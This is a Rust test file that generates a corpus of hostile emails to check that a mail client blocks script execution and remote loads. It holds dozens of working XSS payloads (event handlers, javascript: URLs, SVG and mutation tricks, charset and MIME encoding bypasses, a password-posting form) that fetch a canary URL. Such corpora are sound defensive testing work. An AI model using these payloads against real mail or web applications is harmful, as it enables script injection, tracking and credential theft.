//! The XSS corpus: hostile mails, each trying to run script or to reach a remote host (the
//! canary) from the mailbox. Script tags, event handlers, `javascript:` URLs, SVG, CSS
//! expressions and remote CSS, `<meta refresh>`, frames, forms, malformed nesting and mutation
//! tricks, and MIME-level ones: charsets (UTF-7, GBK, a lying label), transfer encodings, HTML in
//! headers and file names, HTML attachments.
//!
//! Every script payload does three things a test can see: opens a dialog, logs `XSS-RAN` to the
//! console, and sends a request to the canary.

use super::chrome::Canary;
use base64::Engine as _;

/// One hostile mail.
pub struct Hostile {
    /// What it tries.
    pub name: String,
    /// The whole message, CRLF line ends.
    pub message: String,
}

/// HTML bodies: `{JS}` is the script payload, `{URL}` a canary URL on a "remote" host name.
const HTML: &[(&str, &str)] = &[
    ("script tag", "<script>{JS}</script>"),
    ("remote script", "<SCRIPT SRC={URL}></SCRIPT>"),
    ("img onerror", "<img src=x onerror=\"{JS}\">"),
    ("body onload", "<body onload=\"{JS}\">hello</body>"),
    ("svg onload", "<svg onload=\"{JS}\"></svg>"),
    ("script inside svg", "<svg><script>{JS}</script></svg>"),
    (
        "svg xlink javascript",
        "<svg><a xlink:href=\"javascript:{JS}\"><text x=\"20\" y=\"20\">click</text></a></svg>",
    ),
    (
        "svg animate onbegin",
        "<svg><animate onbegin=\"{JS}\" attributeName=\"x\" dur=\"1s\"/></svg>",
    ),
    ("svg use remote", "<svg><use href=\"{URL}#x\"/></svg>"),
    ("javascript link", "<a href=\"javascript:{JS}\">link</a>"),
    (
        "mixed-case javascript",
        "<a href=\"JaVaScRiPt:{JS}\">link</a>",
    ),
    (
        "entity-encoded javascript",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">link</a>",
    ),
    (
        "tab inside javascript",
        "<a href=\"java&#x09;script:{JS}\">link</a>",
    ),
    (
        "data URL link",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">link</a>",
    ),
    (
        "javascript iframe",
        "<iframe src=\"javascript:{JS}\"></iframe>",
    ),
    ("remote iframe", "<iframe src=\"{URL}\"></iframe>"),
    (
        "srcdoc iframe",
        "<iframe srcdoc=\"<script>{JS}</script>\"></iframe>",
    ),
    ("object", "<object data=\"{URL}\"></object>"),
    ("embed", "<embed src=\"{URL}\">"),
    (
        "meta refresh",
        "<meta http-equiv=\"refresh\" content=\"0;url={URL}\">",
    ),
    (
        "meta refresh javascript",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{JS}\">",
    ),
    (
        "remote stylesheet",
        "<link rel=\"stylesheet\" href=\"{URL}\">",
    ),
    ("css import", "<style>@import url({URL});</style>"),
    (
        "css background",
        "<style>body{background:url({URL})}</style>",
    ),
    (
        "inline style url",
        "<div style=\"background-image:url({URL})\">css</div>",
    ),
    (
        "css expression",
        "<div style=\"width:expression({JS})\">css</div>",
    ),
    (
        "css behavior",
        "<div style=\"behavior:url({URL})\">css</div>",
    ),
    ("remote image", "<p>tracked</p><img src=\"{URL}\">"),
    ("remote srcset", "<img srcset=\"{URL} 1x\">"),
    (
        "picture source",
        "<picture><source srcset=\"{URL}\"><img src=\"data:,\"></picture>",
    ),
    (
        "video poster",
        "<video poster=\"{URL}\" src=\"{URL}\"></video>",
    ),
    ("audio autoplay", "<audio src=\"{URL}\" autoplay></audio>"),
    ("input image", "<input type=\"image\" src=\"{URL}\">"),
    (
        "phishing form",
        "<form action=\"{URL}\" method=\"post\"><input name=\"password\" value=\"x\"><button>go</button></form>",
    ),
    (
        "formaction",
        "<form><button formaction=\"javascript:{JS}\">x</button></form>",
    ),
    (
        "base href",
        "<base href=\"{URL}/\"><img src=\"relative.png\"><a href=\"rel\">rel</a>",
    ),
    (
        "table background",
        "<table background=\"{URL}\"><tr><td>bg</td></tr></table>",
    ),
    ("body background", "<body background=\"{URL}\">bg</body>"),
    (
        "mathml mutation",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"{JS}\">",
    ),
    (
        "noscript mutation",
        "<noscript><p title=\"</noscript><img src=x onerror={JS}>\">",
    ),
    ("split script tag", "<scr<script>ipt>{JS}</scr</script>ipt>"),
    ("doubled brackets", "<<script>script>{JS}<</script>/script>"),
    ("quote confusion", "<img \"\"\"><script>{JS}</script>\">"),
    (
        "unclosed nesting",
        "<div><p><b><i><script>{JS}</script></b></p>",
    ),
    (
        "comment trick",
        "<!--<img src=\"--><img src=x onerror={JS}//\">",
    ),
    ("cdata", "<![CDATA[<script>{JS}</script>]]>"),
    (
        "details ontoggle",
        "<details open ontoggle=\"{JS}\">d</details>",
    ),
    ("marquee onstart", "<marquee onstart=\"{JS}\">m</marquee>"),
    (
        "custom element handler",
        "<x onclick=\"{JS}\" style=\"display:block\">custom</x>",
    ),
    (
        "template script",
        "<template><script>{JS}</script></template>",
    ),
    ("anchor ping", "<a href=\"{URL}\" ping=\"{URL}\">ping</a>"),
    (
        "entity in handler",
        "<img src=\"x\" onerror=\"&#97;lert(1)\">",
    ),
    ("isindex", "<isindex action=\"javascript:{JS}\" type=image>"),
    (
        "svg foreignObject",
        "<svg><foreignObject><iframe src=\"{URL}\"></iframe></foreignObject></svg>",
    ),
];

/// The script payload for case `n`.
fn js(canary: &Canary, n: usize) -> String {
    format!(
        "alert(1);console.error('XSS-RAN {n}');fetch('{}')",
        canary.url(&format!("js/{n}"))
    )
}

fn html_mail(subject: &str, html: &str) -> String {
    format!(
        "From: Mallory <mallory@evil.example>\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>Hostile: {subject}</p>{html}</body></html>\r\n"
    )
}

/// The whole corpus for a browser whose canary is `canary`.
pub fn corpus(canary: &Canary) -> Vec<Hostile> {
    let mut all: Vec<Hostile> = HTML
        .iter()
        .enumerate()
        .map(|(n, (name, html))| {
            let body = html
                .replace("{JS}", &js(canary, n))
                .replace("{URL}", &canary.url(&format!("url/{n}")));
            Hostile {
                name: (*name).to_owned(),
                message: html_mail(&format!("xss {n}: {name}"), &body),
            }
        })
        .collect();
    let n = all.len();
    let script = format!("<script>{}</script>", js(canary, n));
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let mut add = |name: &str, message: String| {
        all.push(Hostile {
            name: name.to_owned(),
            message,
        })
    };
    add(
        "HTML in the subject and sender",
        format!(
            "From: \"<img src=x onerror=alert(1)>\" <mallory@evil.example>\r\nSubject: =?utf-8?B?{}?=\r\n\r\nplain\r\n",
            b64(&format!("<script>{}</script>", js(canary, n)))
        ),
    );
    add(
        "UTF-7 charset",
        format!(
            "From: m@evil.example\r\nSubject: utf-7\r\nContent-Type: text/html; charset=utf-7\r\n\r\n\
             +ADw-script+AD4-{}+ADw-/script+AD4-\r\n",
            js(canary, n + 1)
        ),
    );
    add(
        "GBK body with script",
        format!(
            "From: m@evil.example\r\nSubject: gbk\r\nContent-Type: text/html; charset=gbk\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            // GBK for "你好" then a script.
            base64::engine::general_purpose::STANDARD.encode(
                [
                    &[0xC4u8, 0xE3, 0xBA, 0xC3][..],
                    format!("<script>{}</script>", js(canary, n + 2)).as_bytes()
                ]
                .concat()
            )
        ),
    );
    add(
        "quoted-printable script",
        format!(
            "From: m@evil.example\r\nSubject: qp\r\nContent-Type: text/html; charset=utf-8\r\n\
             Content-Transfer-Encoding: quoted-printable\r\n\r\n=3Cscript=3E{}=3C/script=3E=\r\n<img src=3Dx onerror=3Dalert(1)>\r\n",
            js(canary, n + 3).replace('=', "=3D")
        ),
    );
    add(
        "base64 HTML",
        format!(
            "From: m@evil.example\r\nSubject: b64\r\nContent-Type: text/html; charset=utf-8\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            b64(&format!(
                "<img src=x onerror=\"{}\">{script}",
                js(canary, n + 4)
            ))
        ),
    );
    add(
        "hostile HTML alternative",
        format!(
            "From: m@evil.example\r\nSubject: alternative\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n\
             innocent\r\n--b\r\nContent-Type: text/html\r\n\r\n<svg onload=\"{}\"></svg>{script}\r\n--b--\r\n",
            js(canary, n + 5)
        ),
    );
    add(
        "HTML in a text mail",
        format!(
            "From: m@evil.example\r\nSubject: text\r\nContent-Type: text/plain\r\n\r\n{script}<img src=\"{}\">\r\n",
            canary.url("text")
        ),
    );
    add(
        "HTML attachment",
        format!(
            "From: m@evil.example\r\nSubject: attachment\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee file\r\n\
             --b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=\"invoice.html\"\r\n\r\n{script}\r\n--b--\r\n"
        ),
    );
    add(
        "lying charset label",
        format!(
            "From: m@evil.example\r\nSubject: label\r\nContent-Type: text/html; charset=us-ascii\r\n\r\n\
             \u{00e9}\u{00bc}script\u{00be}{}\u{00bc}/script\u{00be}{script}\r\n",
            js(canary, n + 6)
        ),
    );
    add(
        "HTML in an attachment's name",
        "From: m@evil.example\r\nSubject: file name\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee file\r\n\
         --b\r\nContent-Type: application/octet-stream\r\n\
         Content-Disposition: attachment; filename=\"<img src=x onerror=alert(1)>.txt\"\r\n\r\nhi\r\n--b--\r\n"
            .to_owned(),
    );
    all
}
